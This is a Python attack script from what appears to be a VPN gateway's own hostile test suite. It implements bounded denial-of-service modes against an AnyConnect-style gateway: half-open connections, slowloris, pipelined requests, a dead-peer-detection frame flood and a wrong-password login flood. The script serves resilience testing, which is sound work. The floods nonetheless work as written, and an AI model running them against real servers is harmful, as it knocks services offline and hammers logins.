#!/usr/bin/env python3
"""Attacks for the hostile suite (issue 11): each mode floods one gateway address for a bounded
time from the given source addresses, then prints one summary line of `key=value` pairs that
the case script checks. Every loop and wait is bounded; only HOST (the test's gateway, inside
the test's namespaces) is contacted.

Usage: attacker.py MODE HOST PORT SOURCES SECONDS [ARGS...]
  SOURCES  comma-separated local addresses to connect from (round robin)
  halfopen COUNT        COUNT TCP connections, half of them with a ClientHello cut short, held
                        for SECONDS; prints held= (still open after 2 s) and refused= (closed)
  slowloris COUNT       COUNT TLS connections sending an HTTP head one byte per second; prints
                        closed= and the slowest close in s (max_close_s=)
  pipeline COUNT        COUNT TLS connections sending login requests back to back, never
                        reading; prints sent_kib= and closed=
  dpdflood COOKIE       one tunnel (CONNECT with COOKIE), then DPD requests, never reading;
                        prints closed= and closed_after_s=
  loginflood PARALLEL   PARALLEL threads posting init + a wrong password, again and again;
                        prints logins= (forms answered)
"""
import resource
import select
import socket
import ssl
import sys
import threading
import time

MODE, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
SOURCES = sys.argv[4].split(",")
SECONDS = float(sys.argv[5])
ARGS = sys.argv[6:]
DEADLINE = time.monotonic() + SECONDS


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def tls_connect(index, timeout=5, rcvbuf=0):
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        # A small receive window: the gateway's answers fill it (and its send buffer) quickly.
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_WINDOW_CLAMP, rcvbuf)
    raw.settimeout(timeout)
    raw.bind((SOURCES[index % len(SOURCES)], 0))
    try:
        raw.connect((HOST, PORT))
    except OSError:
        raw.close()
        raise
    return tls_context().wrap_socket(raw, server_hostname="gw.sekisho.test")


def request(method, target, headers, body=b""):
    head = f"{method} {target} HTTP/1.1\r\nHost: {HOST}\r\n".encode()
    for name, value in headers:
        head += f"{name}: {value}\r\n".encode()
    return head + b"\r\n" + body


INIT = (b'<?xml version="1.0" encoding="UTF-8"?>\n<config-auth client="vpn" type="init" '
        b'aggregate-auth-version="2"><version who="vpn">v9.01-3</version>'
        b'<group-access>https://gw/</group-access></config-auth>\n')


def reply_body(user, password):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<config-auth client="vpn" '
            f'type="auth-reply" aggregate-auth-version="2"><version who="vpn">v9.01-3</version>'
            f'<auth><username>{user}</username><password>{password}</password></auth>'
            f'</config-auth>\n').encode()


def post(body, cookie=""):
    headers = [("X-Transcend-Version", "1"), ("X-Aggregate-Auth", "1"),
               ("Content-Length", str(len(body)))]
    if cookie:
        headers.append(("Cookie", cookie))
    return request("POST", "/", headers, body)


def peer_closed(sock):
    """True when the peer closed (EOF or reset); False while it is open and silent."""
    try:
        return sock.recv(4096, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def tls_peer_closed(sock):
    """As peer_closed, for a TLS socket (which takes no recv flags)."""
    sock.settimeout(0.01)
    try:
        return sock.recv(4096) == b""
    except socket.timeout:
        return False
    except (ssl.SSLError, OSError):
        return True
    finally:
        sock.settimeout(5)


def halfopen():
    raise_fd_limit()
    count = int(ARGS[0])
    # A TLS record header announcing a 512-byte handshake message, and less than that of it.
    partial = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + bytes(40)
    socks = []
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((SOURCES[i % len(SOURCES)], 0))
        s.connect_ex((HOST, PORT))
        socks.append(s)
    by_fd = {s.fileno(): s for s in socks}
    poller = select.poll()
    for fd in by_fd:
        poller.register(fd, select.POLLOUT)
    pending = set(socks)
    connect_deadline = min(DEADLINE, time.monotonic() + 10)
    while pending and time.monotonic() < connect_deadline:
        for fd, _ in poller.poll(200):
            poller.unregister(fd)
            pending.discard(by_fd[fd])
    connected = [s for s in socks if s not in pending]
    for i, s in enumerate(connected):
        if i % 2 == 0:
            try:
                s.send(partial)
            except OSError:
                pass
    # The gateway refuses the excess as fast as it accepts: report the counts every time they
    # change (the test waits for the ones it expects) and hold the rest until the deadline.
    open_socks = list(connected)
    refused = 0
    reported = None
    while time.monotonic() < DEADLINE:
        still_open = [s for s in open_socks if not peer_closed(s)]
        refused += len(open_socks) - len(still_open)
        open_socks = still_open
        if reported != refused:
            print(f"connected={len(connected)} held={len(open_socks)} refused={refused}",
                  flush=True)
            reported = refused
        time.sleep(0.2)
    for s in socks:
        s.close()
    return True


def slowloris():
    count = int(ARGS[0])
    closes = []
    refused = [0]
    lock = threading.Lock()

    settled = [0]

    def handshake_settled():
        # Once every connection is either trickling or refused, the burst of handshakes is over
        # and the test measures the slow phase itself.
        settled[0] += 1
        if settled[0] == count:
            print(f"handshakes done: trickling={count - refused[0]} refused={refused[0]}",
                  flush=True)

    def one(index):
        try:
            sock = tls_connect(index)
        except OSError:
            with lock:
                refused[0] += 1  # closed before the handshake: over a limit
                handshake_settled()
            return
        with lock:
            handshake_settled()
        start = time.monotonic()
        head = b"POST / HTTP/1.1\r\nHost: x\r\nX-Transcend-Version: 1\r\nX-Slow: " + b"a" * 10000
        try:
            for byte in head:
                if time.monotonic() >= DEADLINE:
                    return
                sock.sendall(bytes([byte]))
                time.sleep(1.0)
                if tls_peer_closed(sock):
                    break
        except (ssl.SSLError, OSError):
            pass
        with lock:
            closes.append(time.monotonic() - start)
        sock.close()

    threads = [threading.Thread(target=one, args=(i,)) for i in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.1, DEADLINE - time.monotonic() + 5))
    print(f"refused={refused[0]} closed={len(closes)} of={count} "
          f"max_close_s={max(closes, default=-1):.1f}", flush=True)
    return True


def pipeline():
    count = int(ARGS[0])
    sent = [0]
    closed = [0]
    lock = threading.Lock()
    batch = post(INIT) * 64

    def one(index):
        try:
            sock = tls_connect(index, rcvbuf=1024)
        except OSError:
            with lock:
                closed[0] += 1
            return
        sock.settimeout(0.5)
        mine = 0
        try:
            while time.monotonic() < DEADLINE:
                try:
                    mine += sock.send(batch)
                except socket.timeout:
                    continue  # the gateway stopped reading: keep pushing until the deadline
        except (ssl.SSLError, OSError):
            with lock:
                closed[0] += 1
        with lock:
            sent[0] += mine
        sock.close()

    threads = [threading.Thread(target=one, args=(i,)) for i in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.1, DEADLINE - time.monotonic() + 5))
    print(f"sent_kib={sent[0] // 1024} closed={closed[0]} of={count}", flush=True)
    return True


def dpdflood():
    cookie = ARGS[0]
    sock = tls_connect(0, rcvbuf=1024)
    sock.sendall(request("CONNECT", "/CSCOSSLC/tunnel",
                         [("Cookie", f"webvpn={cookie}"), ("X-CSTP-Version", "1"),
                          ("X-CSTP-Hostname", "flood"), ("X-CSTP-MTU", "1400"),
                          ("X-CSTP-Base-MTU", "1500")]))
    sock.settimeout(10)
    head = sock.recv(65536)
    if not head.startswith(b"HTTP/1.1 200"):
        print(f"CONNECT not accepted: {head[:80]!r}", flush=True)
        return False
    # From here on nothing is read: the gateway's answers pile up.
    # One frame per TLS record (anyconnect.md §1.3): one sendall each.
    dpd = b"STF\x01\x00\x00\x03\x00"
    start = time.monotonic()
    sock.settimeout(0.5)
    frames = 0
    while time.monotonic() < DEADLINE:
        try:
            sock.sendall(dpd)
            frames += 1
        except socket.timeout:
            continue
        except (ssl.SSLError, OSError):
            print(f"closed=1 closed_after_s={time.monotonic() - start:.1f} frames={frames}",
                  flush=True)
            return True
    print(f"closed=0 frames={frames}", flush=True)
    return True


def loginflood():
    parallel = int(ARGS[0])
    forms = [0]
    lock = threading.Lock()

    def one(index):
        n = 0
        while time.monotonic() < DEADLINE:
            try:
                sock = tls_connect(index + n * parallel, timeout=3)
                sock.settimeout(3)
                sock.sendall(post(INIT))
                answer = sock.recv(65536)
                cookie = ""
                for line in answer.split(b"\r\n"):
                    if line.lower().startswith(b"set-cookie: webvpncontext="):
                        cookie = line.split(b":", 1)[1].split(b";")[0].strip().decode()
                sock.sendall(post(reply_body(f"user{index}", "wrong"), cookie))
                sock.recv(65536)
                sock.close()
                with lock:
                    forms[0] += 1
            except (ssl.SSLError, OSError):
                time.sleep(0.05)
            n += 1

    threads = [threading.Thread(target=one, args=(i,)) for i in range(parallel)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.1, DEADLINE - time.monotonic() + 5))
    print(f"logins={forms[0]}", flush=True)
    return True


MODES = {"halfopen": halfopen, "slowloris": slowloris, "pipeline": pipeline,
         "dpdflood": dpdflood, "loginflood": loginflood}

if __name__ == "__main__":
    sys.exit(0 if MODES[MODE]() else 1)
